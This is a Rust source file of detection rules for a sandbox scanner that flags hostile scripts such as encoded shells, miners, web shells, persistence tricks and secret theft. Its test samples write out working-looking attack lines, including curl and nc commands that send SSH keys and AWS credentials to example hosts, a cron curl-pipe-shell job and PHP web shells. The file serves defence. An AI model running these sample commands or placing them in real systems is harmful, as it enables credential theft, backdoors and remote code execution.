//! Scripts that hide what they run, mine, persist or spy.

use sandbox_types::RiskLevel::{Critical, High, Low, Medium};

use super::{
    ContentRule, LooksIn, Match, When,
    shells::{has, when},
};
use crate::content::{token::Of, window::Window};

pub(super) const CODE: ContentRule = ContentRule {
    id: "",
    severity: High,
    looks_in: LooksIn::Code,
    message: "",
    suggestion: "do not run it; find out where it came from",
    when: When::Policy,
    matches: &[],
    spares: &[],
};

/// Whether the line holds one of these words besides the word itself.
pub(super) fn line_has(window: &Window<'_>, words: &[&str]) -> Option<Match> {
    when(window, has(&window.line_text(), words))
}

pub(super) fn said(window: &Window<'_>) -> Option<Match> {
    when(window, true)
}

pub(super) static RULES: &[ContentRule] = &[
    ContentRule {
        id: "script.encoded-shell",
        message: "decodes text and runs it in a shell",
        when: When::Around(
            &[
                "base64 -d",
                "base64 --decode",
                "base64 -D",
                "xxd -r",
                "openssl enc -d",
                "openssl base64 -d",
            ],
            |window| {
                line_has(
                    window,
                    &[
                        "| sh",
                        "| bash",
                        "|sh",
                        "|bash",
                        "eval ",
                        "sh -c \"$(",
                        "sh <(",
                        "bash <(",
                        "| sudo sh",
                        "| sudo bash",
                        "| python",
                        "| perl",
                    ],
                )
            },
        ),
        matches: &[
            "echo ZWNobyBoaQ== | base64 -d | sh",
            "eval \"$(echo ZWNobyBoaQ== | base64 --decode)\"",
        ],
        spares: &["echo ZWNobyBoaQ== | base64 -d > out"],
        ..CODE
    },
    ContentRule {
        id: "script.encoded-code",
        message: "decodes text and runs it as code",
        when: When::Around(
            &[
                "b64decode(",
                "base64_decode(",
                "atob(",
                "marshal.loads(",
                "zlib.decompress(",
                "gzinflate(",
                "str_rot13(",
                "unhexlify(",
                "codecs.decode(",
                "FromBase64String(",
            ],
            |window| {
                let line = window.line_text();
                let run = [
                    "exec(",
                    "eval(",
                    "assert(",
                    "iex ",
                    "invoke-expression",
                    "new function(",
                    "create_function(",
                ];
                when(window, runs_decoded(&line, &run))
            },
        ),
        matches: &[
            "exec(base64.b64decode('cHJpbnQoMSk='))",
            "eval(atob('YWxlcnQoMSk='))",
            "<?php eval(gzinflate(base64_decode($x))); ?>",
        ],
        spares: &[
            "data = base64.b64decode(text)",
            "const json = JSON.parse(atob(x))",
        ],
        ..CODE
    },
    ContentRule {
        id: "script.encoded-powershell",
        message: "gives PowerShell a command that cannot be read",
        when: When::Around(&["-enc ", "-EncodedCommand ", "-e JAB", "-ec "], |window| {
            let digits = window
                .after()
                .iter()
                .take_while(|it| Of::Base64.has(**it))
                .count();
            when(
                window,
                digits >= 40 && has(&window.line_text(), &["powershell", "pwsh"]),
            )
        }),
        matches: &[
            "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=",
        ],
        spares: &["openssl -enc aes256"],
        ..CODE
    },
    ContentRule {
        id: "script.packed-javascript",
        severity: Low,
        message: "is packed so that it cannot be read",
        suggestion: "compare it with the published source",
        when: When::Around(
            &["eval(function(p,a,c,k,e,", "while(!![])", "while (!![])"],
            |window| {
                let packed = window.has_near(&["_0x", "p,a,c,k,e"], 600);
                packed.then(|| Match::Shown(window.word.clone()))
            },
        ),
        matches: &[
            "eval(function(p,a,c,k,e,d){return p}('0',1))",
            "var _0x1f2e=['a'];while(!![]){}",
        ],
        spares: &["while(!![]){}"],
        ..CODE
    },
    ContentRule {
        id: "script.miner",
        message: "mines a currency",
        when: When::Around(
            &[
                "stratum+tcp://",
                "stratum+ssl://",
                "stratum2+tcp://",
                "--donate-level",
                "coinhive.min.js",
                "cryptonight",
                "xmrig ",
            ],
            |window| {
                let word = window.bytes[window.word.clone()].to_ascii_lowercase();
                let sure = word.starts_with(b"stratum") || word.starts_with(b"coinhive");
                when(
                    window,
                    sure || window
                        .has_near(&["stratum", "xmrig", "pool.", "--coin", "monero"], 300)
                        && window.has_near(&["-o ", "--url", "--user", "-u ", "donate"], 300),
                )
            },
        ),
        matches: &[
            "./miner -o stratum+tcp://pool.example.com:3333 -u wallet",
            "xmrig --donate-level 1 -o pool.example.com -u x",
        ],
        spares: &["xmrig is a miner"],
        ..CODE
    },
    ContentRule {
        id: "script.web-shell",
        severity: Critical,
        message: "runs what a web request says",
        when: When::Around(
            &[
                "$_POST",
                "$_GET",
                "$_REQUEST",
                "$_COOKIE",
                "Request.Item",
                "request.getParameter(",
            ],
            |window| {
                let before = window.before();
                let call = before[before.len().saturating_sub(40)..].to_ascii_lowercase();
                let call = call.trim_ascii_end();
                let calls: [&[u8]; 10] = [
                    b"eval(",
                    b"system(",
                    b"shell_exec(",
                    b"passthru(",
                    b"assert(",
                    b"popen(",
                    b"proc_open(",
                    b"exec(",
                    b"eval(@",
                    b"execute(",
                ];
                when(window, calls.iter().any(|it| call.ends_with(it)))
            },
        ),
        matches: &[
            "<?php system($_GET['cmd']); ?>",
            "<?php @eval($_POST['x']); ?>",
            "Runtime.getRuntime().exec(request.getParameter(\"cmd\"));",
        ],
        spares: &[
            "$name = $_GET['name'];",
            "echo htmlspecialchars($_POST['x']);",
        ],
        ..CODE
    },
    ContentRule {
        id: "script.login-key",
        message: "lets somebody log in by adding a key",
        when: When::Around(&["authorized_keys"], |window| {
            line_has(
                window,
                &[
                    ">> ~/.ssh",
                    ">>~/.ssh",
                    ">> /root/.ssh",
                    ">>/root/.ssh",
                    ">> $home/.ssh",
                    ">> \"$home/.ssh",
                    "tee -a",
                ],
            )
        }),
        matches: &["echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys"],
        spares: &[
            "AuthorizedKeysFile .ssh/authorized_keys",
            "cat ~/.ssh/authorized_keys",
        ],
        severity: Medium,
        ..CODE
    },
    ContentRule {
        id: "script.preload",
        message: "has its code loaded into every program",
        when: When::Around(&["/etc/ld.so.preload"], |window| {
            line_has(
                window,
                &[
                    "> /etc/ld.so.preload",
                    ">/etc/ld.so.preload",
                    "tee ",
                    "\"w\"",
                    "\"a\"",
                    "'w'",
                    "'a'",
                    "cp ",
                ],
            )
        }),
        matches: &["echo /tmp/x.so >> /etc/ld.so.preload"],
        spares: &["access(\"/etc/ld.so.preload\", R_OK)"],
        ..CODE
    },
    ContentRule {
        id: "script.scheduled-download",
        message: "arranges to run downloads again and again",
        when: When::Around(&["crontab", "* * * *", "/etc/cron"], |window| {
            let line = window.line_text();
            when(
                window,
                has(&line, &["curl ", "wget "]) && has(&line, &["| sh", "|sh", "| bash", "|bash"]),
            )
        }),
        matches: &["(crontab -l; echo '* * * * * curl -s http://example.com/x | sh') | crontab -"],
        spares: &[
            "0 * * * * /usr/bin/backup",
            "* * * * * curl -fsS https://example.com/ping",
        ],
        ..CODE
    },
    ContentRule {
        id: "script.install-hook",
        message: "runs a download or hidden code when a package is installed",
        when: When::Around(
            &["\"preinstall\"", "\"postinstall\"", "\"install\""],
            |window| {
                let line = window.line_text();
                let value = line.split_once("install\"").map_or("", |(_, it)| it);
                when(
                    window,
                    has(
                        value,
                        &[
                            "curl ",
                            "wget ",
                            "node -e",
                            "base64",
                            "powershell",
                            "python -c",
                            "/dev/tcp",
                        ],
                    ),
                )
            },
        ),
        matches: &[
            "\"postinstall\": \"curl -s http://example.com/x | sh\"",
            "\"preinstall\": \"node -e 'eval(1)'\"",
        ],
        spares: &[
            "\"postinstall\": \"node scripts/build.js\"",
            "\"install\": \"make\"",
        ],
        ..CODE
    },
    ContentRule {
        id: "script.steals-secrets",
        message: "sends keys or passwords away",
        when: When::Around(
            &[
                ".ssh/id_",
                ".aws/credentials",
                "/etc/shadow",
                ".kube/config",
                ".npmrc",
                ".netrc",
                "Login Data",
                "wallet.dat",
                ".env ",
            ],
            |window| {
                let line = window.line_text();
                let sends = has(&line, &["curl ", "wget ", "nc ", "ncat ", "scp "])
                    && has(
                        &line,
                        &[
                            "http",
                            "-f ",
                            "-d ",
                            "--data",
                            "--post-file",
                            "-t ",
                            "| nc",
                            "@",
                            "< ",
                        ],
                    );
                let config = has(&line, &["--netrc", "-n ", "ssh -i", "scp -i", "rsync"]);
                when(
                    window,
                    sends
                        && !config
                        && has(
                            &line,
                            &["@", "| curl", "| nc", "< ", "$(cat", "--post-file", "`cat"],
                        ),
                )
            },
        ),
        matches: &[
            "curl -F f=@$HOME/.ssh/id_rsa https://example.com/u",
            "cat ~/.aws/credentials | nc 10.0.0.1 80",
        ],
        spares: &[
            "ssh -i ~/.ssh/id_ed25519 user@host",
            "cat ~/.aws/credentials",
            "cp .env .env.local",
        ],
        ..CODE
    },
    ContentRule {
        id: "script.drop-site",
        severity: Low,
        message: "talks to a site that collects whatever is sent to it",
        suggestion: "make sure that this is meant, and what is sent",
        when: When::Around(
            &[
                "webhook.site/",
                ".oast.fun",
                ".oast.pro",
                ".oast.live",
                ".oast.me",
                "interact.sh",
                "burpcollaborator.net",
                "requestbin.net",
                "pipedream.net",
                "transfer.sh/",
                "pastebin.com/raw/",
                "ngrok.io",
                "0x0.st",
            ],
            said,
        ),
        matches: &[
            "curl https://webhook.site/abc -d @x",
            "wget https://pastebin.com/raw/abc",
        ],
        spares: &["# see webhook.site/abc", "@README.md|webhook.site/abc"],
        ..CODE
    },
    ContentRule {
        id: "script.cloud-metadata",
        severity: Low,
        message: "asks the cloud for the machine's credentials",
        suggestion: "make sure that this is meant",
        when: When::Around(&["169.254.169.254", "metadata.google.internal"], |window| {
            line_has(
                window,
                &[
                    "security-credentials",
                    "service-accounts/default/token",
                    "identity/oauth2/token",
                ],
            )
        }),
        matches: &["curl http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
        spares: &["curl http://169.254.169.254/latest/meta-data/instance-id"],
        ..CODE
    },
];

/// Returns whether a call that runs code stands before one that decodes it.
fn runs_decoded(line: &str, calls: &[&str]) -> bool {
    calls.iter().any(|call| {
        line.match_indices(call).any(|(at, _)| {
            // `.exec(` is a method of regular expressions and databases.
            let own =
                line[..at].ends_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.'));
            let rest = line
                .get(at..(at + 160).min(line.len()))
                .unwrap_or(&line[at..]);
            !own && has(
                rest,
                &[
                    "decode(",
                    "atob(",
                    "loads(",
                    "decompress(",
                    "inflate(",
                    "rot13(",
                    "hexlify(",
                    "base64string(",
                ],
            )
        })
    })
}
